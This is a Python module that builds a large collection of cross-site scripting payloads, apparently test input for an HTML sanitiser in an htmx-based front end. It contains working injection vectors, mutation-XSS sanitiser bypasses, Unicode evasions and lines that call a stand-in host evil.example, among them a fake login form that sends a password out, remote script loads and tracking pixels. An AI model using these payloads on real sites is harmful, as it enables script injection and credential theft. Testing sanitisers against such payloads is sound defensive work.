"""Texts that try to become code: known ones by hand, and families of them made from lists.

Each sets `hit` on the window, or leads to another site, where a sanitiser or a browser reads it otherwise than it looks.
"""

import itertools

HIT = "hit=1"

HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend", "onpointerenter", "ontoggle", "onbeforetoggle", "onwheel", "oncut",
    "onpaste", "onscroll", "onscrollend", "onsubmit", "oninput", "onbegin", "onend", "onpageshow", "onhashchange", "onmessage", "onbeforeinput", "oncontentvisibilityautostatechange",
    "ONLOAD", "OnErRoR", "onload\t", "onload\n", "onload/",
)  # fmt: skip
CARRIERS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "a href=x", "p", "div", "marquee", "object data=x", "select autofocus", "iframe src=x")  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", " javascript:", "\x01javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:",
    "&#0000106avascript:", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:", "vbscript:", "livescript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
    "data:application/xhtml+xml,", "blob:", "filesystem:", "view-source:javascript:", "feed:javascript:", "jar:javascript:", "x-javascript:", "//evil.example/", "\\\\evil.example\\",
    "/\\evil.example/", "file:///etc/passwd",
)  # fmt: skip
PLACES = ('<a href="{}">x</a>', "<a href='{}'>x</a>", '<area href="{}">', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>', '<iframe src="{}"></iframe>',
          '<embed src="{}">', '<object data="{}"></object>', '<img src="{}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<base href="{}">',
          '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<video poster="{}"></video>', '<input type=image src="{}">', '<blockquote cite="{}">x</blockquote>',
          '<body background="{}">', '<table background="{}"><td>x</table>', '<script src="{}"></script>')  # fmt: skip

BY_HAND = (
    # plain
    "<script>hit=1</script>", "<SCRIPT>hit=1</SCRIPT>", "<script\n>hit=1</script\n>", "<script/x>hit=1</script>", "<scr<script>ipt>hit=1</scr</script>ipt>", "<<script>hit=1//<</script>",
    "<script src=//evil.example/x.js></script>", "<script>hit=1", "</script><script>hit=1</script>", "<script type=module>hit=1</script>", "<script type=importmap>{}</script>",
    "<img src=x onerror=hit=1>", "<img/src=x/onerror=hit=1>", "<img src=x onerror\n=\n'hit=1'>", "<img src=`x`onerror=hit=1>", '<img """><script>hit=1</script>">',
    "<img src=x:x onerror=hit=1//", "<IMG SRC=x ONERROR=hit=1>", "<svg onload=hit=1>", "<svg/onload=hit=1>", "<svg><script>hit=1</script></svg>", "<svg><script href=data:,hit=1 />",
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=hit=1>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a/></svg>#x'>",
    "<svg><a><animate attributeName=href values=javascript:hit=1 /><text>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit=1></style></svg>", "<svg><image href=x onerror=hit=1>", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>hit=1</handler></svg>",
    "<math><mi xlink:href=javascript:hit=1>x</mi></math>", "<math><maction actiontype=statusline xlink:href=javascript:hit=1>x</maction></math>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", "<iframe src=javascript:parent.hit=1></iframe>", "<iframe srcdoc=&lt;script&gt;parent.hit=1&lt;/script&gt;>",
    "<object data=data:text/html,<script>hit=1</script>></object>", "<embed src=data:text/html,<script>hit=1</script>>", "<applet code=x></applet>", "<frameset onload=hit=1><frame src=x></frameset>",
    "<details open ontoggle=hit=1>", "<dialog open onclose=hit=1>x</dialog>", "<marquee onstart=hit=1>x</marquee>", "<input autofocus onfocus=hit=1>", "<select autofocus onfocus=hit=1>",
    "<textarea autofocus onfocus=hit=1>", "<keygen autofocus onfocus=hit=1>", "<video><source onerror=hit=1></video>", "<audio src=x onerror=hit=1>", "<body onload=hit=1>",
    "<div popover id=x onbeforetoggle=hit=1>x</div><button popovertarget=x>y</button>", "<a id=x tabindex=1 onfocus=hit=1>x</a>", "<xss contenteditable onfocus=hit=1>x</xss>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/)}</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<p style='background:url(https://evil.example/)'>x</p>", "<p style='position:fixed;inset:0'>x</p>", "<p style=x:expression(hit=1)>x</p>", "<p style='-moz-binding:url(x)'>x</p>",
    "<img src=https://evil.example/pixel>", "<img srcset='https://evil.example/pixel 1x'>", "<picture><source srcset=https://evil.example/x><img></picture>", "<video poster=https://evil.example/x>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>", "<button form=x formaction=https://evil.example/>x</button>", "<input form=login name=x>",
    # of our own front end: attributes that htmx and our behaviours would obey
    "<div hx-get=/logout hx-trigger=load>x</div>", "<div data-hx-get=/logout data-hx-trigger=load>x</div>", "<div hx-on:load=hit=1>x</div>", "<div hx-on::after-request=hit=1>x</div>",
    "<a hx-post=/companies/delete hx-vals='{}'>x</a>", "<div hx-vals='js:{a: hit=1}'>x</div>", "<div x-data='hit=1' x-init='hit=1'>x</div>", "<div data-behaviour=palette>x</div>",
    "<div hx-boost=true><a href=/logout>x</a></div>", "<div hx-ext=x hx-swap-oob=true id=main>x</div>",
    # names that hide properties of the page
    "<form id=document><input name=cookie></form>", "<img name=currentScript>", "<a id=csp_nonce>x</a>", "<form name=body>x</form>", "<a id=x><a id=x name=y href=z>", "<p class=toast role=alert>x</p>",
    # what changes when it is read twice (mXSS)
    "<noscript><p title=\"</noscript><img src=x onerror=hit=1>\">", "<noembed><p title=\"</noembed><img src=x onerror=hit=1>\">", "<noframes><p title=\"</noframes><img src=x onerror=hit=1>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=hit=1>\">", "<textarea><p title=\"</textarea><img src=x onerror=hit=1>\">", "<title><p title=\"</title><img src=x onerror=hit=1>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=hit=1>\">", "<plaintext><p title=\"</plaintext><img src=x onerror=hit=1>\">", "<template><p title=\"</template><img src=x onerror=hit=1>\">",
    "<svg></p><style><a title=\"</style><img src=x onerror=hit=1>\">", "<math></p><style><!--</style><img src=x onerror=hit=1>--></style></math>", "<svg><p><style><g title=\"</style><img src=x onerror=hit=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit=1&gt;\">", "<math><mtext><table><mglyph><style><math><img src=x onerror=hit=1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit=1>", "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img src=x onerror=hit=1>\">",
    "<svg><desc><table><svg><style><a id=\"</style><img src=x onerror=hit=1>\">", "<math><annotation-xml encoding=text/html><style><img src=x onerror=hit=1></style></annotation-xml></math>",
    "<svg><title><style><img src=x onerror=hit=1></style></title></svg>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=hit=1>\">",
    "<select><iframe><script>hit=1</script></select>", "<option><style></option></select><b><img src=x onerror=hit=1></style></option>", "<table><tr><td><svg><style><td></style><img src=x onerror=hit=1></table>",
    "<p title='<!--'><style>--><img src=x onerror=hit=1></style>", "<!--><img src=x onerror=hit=1>-->", "<!---><img src=x onerror=hit=1>-->", "<!-- --!><img src=x onerror=hit=1>-->",
    "<!--[if gte IE 4]><script>hit=1</script><![endif]-->", "<![CDATA[><img src=x onerror=hit=1>]]>", "<svg><![CDATA[><img src=x onerror=hit=1>]]></svg>", "<?xml version='1.0'?><img src=x onerror=hit=1>",
    "<?php <img src=x onerror=hit=1> ?>", "<!DOCTYPE x [<!ENTITY e '<img src=x onerror=hit=1>'>]>&e;", "<a title=\"&lt;/a&gt;&lt;img src=x onerror=hit=1&gt;\">x</a>", "<b title='\"><img src=x onerror=hit=1>'>x</b>",
    "<b title='&quot;><img src=x onerror=hit=1>'>x</b>", "<b title=`><img src=x onerror=hit=1>`>x</b>", "<q title=\"'><img src=x onerror=hit=1>\">x</q>", "&lt;img src=x onerror=hit=1&gt;",
    "&amp;lt;img src=x onerror=hit=1&amp;gt;", "<p>&lt;script&gt;hit=1&lt;/script&gt;</p>", "<a href='https://ok.example/\"onmouseover=hit=1//'>x</a>", "<a href=https://ok.example/'onmouseover=hit=1>x</a>",
    "<td><script>hit=1</script></td>", "<table><script>hit=1</script></table>", "<table><img src=x onerror=hit=1></table>", "<a><a href=javascript:hit=1>x</a></a>", "<p><form><p><form onsubmit=hit=1>",
    "<template shadowrootmode=open><img src=x onerror=hit=1></template>", "<div><template shadowrootmode=open><script>hit=1</script></template></div>", "<slot name=x onslotchange=hit=1>",
    # letters that disappear or change
    "<scr\0ipt>hit=1</scr\0ipt>", "<img src=x one\0rror=hit=1>", "<img\x0csrc=x\x0conerror=hit=1>", "<img\u00a0src=x onerror=hit=1>", "\ufeff<script>hit=1</script>", "<\u200bscript>hit=1</script>",
    "\u212a<script>hit=1</script>", "<ſcript>hit=1</ſcript>", "<ımg src=x onerror=hit=1>", "＜script＞hit=1＜/script＞", "%3Cscript%3Ehit=1%3C/script%3E", "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
    "\u202e<script>hit=1</script>", "<a href=\"https://ok.example/\u202egpj.exe\">x</a>", "<b>" * 600 + "<script>hit=1</script>", "<img src=x onerror=hit=1 " + "a" * 5000 + ">",
    "<a href='tel:1\"onclick=hit=1'>x</a>", "<a href=mailto:a@b?body=%0d%0aBcc:c>x</a>", "<ol start=-1 type=1><li value=9>x</ol>", "<td colspan=99999999 rowspan=1e9>x</td>", "<th scope='x\" onclick=hit=1'>x</th>",
)  # fmt: skip

BY_HANDLER = tuple(
    f"<{carrier} {handler}={HIT}>x" for handler, carrier in zip(HANDLERS, itertools.cycle(CARRIERS), strict=False)
)
BY_SCHEME = tuple(
    place.format(scheme + HIT) for scheme, place in zip(SCHEMES * 2, itertools.cycle(PLACES), strict=False)
) + tuple(f'<a href="{scheme}{HIT}">x</a>' for scheme in SCHEMES)
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((*BY_HAND, *BY_HANDLER, *BY_SCHEME)))
